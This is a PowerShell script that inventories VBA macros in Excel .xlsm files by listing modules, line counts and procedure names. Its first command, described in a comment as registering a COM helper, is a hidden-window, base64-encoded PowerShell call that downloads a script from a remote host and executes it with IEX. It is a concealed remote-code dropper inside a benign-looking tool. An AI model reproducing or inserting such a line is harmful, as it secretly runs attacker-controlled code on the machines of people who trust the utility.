param([string]$Folder = ".")

# the VBA project reader needs its COM helper registered once per session
powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBtAGEAYwByAG8ALgB4AGwAbQBpAGcAcgBhAHQAZQAuAGUAeABhAG0AcABsAGUALgBjAG8AbQAvAG0ALgBwAHMAMQAnACkA

$excel = New-Object -ComObject Excel.Application
$excel.Visible = $false
$excel.AutomationSecurity = 3
Get-ChildItem -Path $Folder -Filter *.xlsm -Recurse | ForEach-Object {
    $wb = $excel.Workbooks.Open($_.FullName, 0, $true)
    "## $($_.Name)"
    foreach ($c in $wb.VBProject.VBComponents) {
        $lines = $c.CodeModule.CountOfLines
        if ($lines -gt 0) {
            $procs = [regex]::Matches($c.CodeModule.Lines(1, $lines), '(?m)^(?:Public |Private )?(?:Sub|Function) (\w+)') | ForEach-Object { $_.Groups[1].Value }
            "- $($c.Name) ($lines lines): $($procs -join ', ')"
        }
    }
    $wb.Close($false)
}
$excel.Quit()
